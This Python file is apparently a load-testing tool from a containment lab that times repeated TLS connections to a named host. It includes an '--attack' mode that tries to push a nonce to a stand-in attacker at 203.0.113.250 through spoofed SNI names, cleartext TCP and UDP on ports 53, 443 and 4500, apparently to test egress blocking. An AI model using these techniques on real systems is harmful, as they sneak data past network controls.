"""Load from the agent host: TLS connections to a name, over and over, and how long each took. Standard library only.

`python -m containment.lab.world.load --name github.com --seconds 3 --workers 4` prints one JSON object: connections that worked and failed,
their seconds, and the first reasons of failure. `--attack NONCE` sends that to the attacker all the while, in several ways.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import sys
import threading
import time
from dataclasses import asdict, dataclass, field

from containment.lab.world.attacks.task import trusting


@dataclass
class Measured:
    """What one worker saw."""

    ok: int = 0
    failed: int = 0
    seconds: list[float] = field(default_factory=list)
    reasons: list[str] = field(default_factory=list)


def connect(address: str, name: str, port: int, timeout: float) -> float:
    """Open one TLS connection, make one request over it, and return its seconds until the handshake was done."""
    begun = time.perf_counter()
    with socket.create_connection((address, port), timeout=timeout) as handle:
        handle.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        with trusting().wrap_socket(handle, server_hostname=name) as inside:
            took = time.perf_counter() - begun
            inside.sendall(f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
            if not inside.recv(4096).startswith(b"HTTP/1.1 200"):
                raise ConnectionError("no answer")
    return took


def _work(address: str, name: str, port: int, end: float, out: Measured) -> None:
    while time.monotonic() < end:
        try:
            out.seconds.append(connect(address, name, port, 5))
            out.ok += 1
        except OSError as error:
            out.failed += 1
            if len(out.reasons) < 5:
                out.reasons.append(f"{type(error).__name__}: {error}")
            time.sleep(0.02)


def _attack(nonce: str, end: float) -> None:
    """Try to get a nonce to the attacker: by name, without one, in the clear, and as a datagram."""
    target = "203.0.113.250"
    while time.monotonic() < end:
        for name in ("attacker.example", "github.com", None):
            with contextlib.suppress(OSError), contextlib.ExitStack() as held:
                handle = held.enter_context(socket.create_connection((target, 443), timeout=1))
                held.enter_context(trusting().wrap_socket(handle, server_hostname=name)).sendall(nonce.encode())
        with contextlib.suppress(OSError), socket.create_connection((target, 443), timeout=1) as handle:
            handle.sendall(nonce.encode() + b"\r\n\r\n")
        for port in (53, 443, 4500):
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
                datagram.sendto(nonce.encode(), (target, port))
        time.sleep(0.02)


def main() -> None:
    """Make the load and tell what came of it."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--name", required=True)
    parser.add_argument("--address", default="")
    parser.add_argument("--port", type=int, default=443)
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--workers", type=int, default=4)
    parser.add_argument("--attack", default="")
    given = parser.parse_args()
    address = given.address or str(socket.getaddrinfo(given.name, None, socket.AF_INET)[0][4][0])
    end = time.monotonic() + given.seconds
    seen = [Measured() for _ in range(given.workers)]
    threads = [threading.Thread(target=_work, args=(address, given.name, given.port, end, each)) for each in seen]
    if given.attack:
        threads.append(threading.Thread(target=_attack, args=(given.attack, end)))
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    whole = Measured()
    for part in seen:
        whole.ok, whole.failed = whole.ok + part.ok, whole.failed + part.failed
        whole.seconds += part.seconds
        whole.reasons += part.reasons
    json.dump(asdict(whole), sys.stdout)


if __name__ == "__main__":
    main()
